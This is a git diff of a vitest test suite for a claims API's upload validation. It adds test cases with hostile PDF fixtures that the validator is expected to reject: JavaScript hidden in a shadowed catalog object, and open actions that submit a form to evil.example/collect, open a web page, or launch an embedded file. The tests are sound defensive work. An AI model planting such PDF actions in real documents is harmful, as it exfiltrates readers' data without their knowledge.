@@ -6,11 +6,12 @@ import sharp from 'sharp';
 import { afterEach, describe, expect, it } from 'vitest';
 import { ClaimsDriver } from '../helpers/claims';
 import {
-  brokenPng,
   EICAR,
+  brokenPng,
   pdfWithAttachment,
   pdfWithJavaScript,
   pdfWithLaunchAction,
+  pdfWithShadowedCatalog,
   photoWithGps,
   plainPdf,
   plainPng,
@@ -79,6 +80,34 @@ describe('Claim uploads (api-v1.md, Uploads)', () => {
         'application/pdf',
         'pdf_active_content',
         ['launch_action'],
+      ],
+      [
+        'JavaScript in the copy of an object the cross-reference table points at (the last copy clean)',
+        pdfWithShadowedCatalog(),
+        'application/pdf',
+        'pdf_active_content',
+        ['javascript'],
+      ],
+      [
+        'a PDF that sends a form when opened',
+        pdfWithShadowedCatalog('<< /S /SubmitForm /F (https://evil.example/collect) >>'),
+        'application/pdf',
+        'pdf_active_content',
+        ['open_action'],
+      ],
+      [
+        'a PDF that opens a web page when opened',
+        pdfWithShadowedCatalog('<< /S /URI /URI (https://evil.example) >>'),
+        'application/pdf',
+        'pdf_active_content',
+        ['open_action'],
+      ],
+      [
+        'a PDF that opens an embedded file when opened',
+        pdfWithShadowedCatalog('<< /S /GoToE /T << /R /C /N (x) >> >>'),
+        'application/pdf',
+        'pdf_active_content',
+        ['open_action'],
       ],
       ['a text file', Buffer.from('hanya teks'), 'text/plain', 'type_not_allowed'],
       ['nothing at all', Buffer.alloc(0), 'application/pdf', 'empty'],
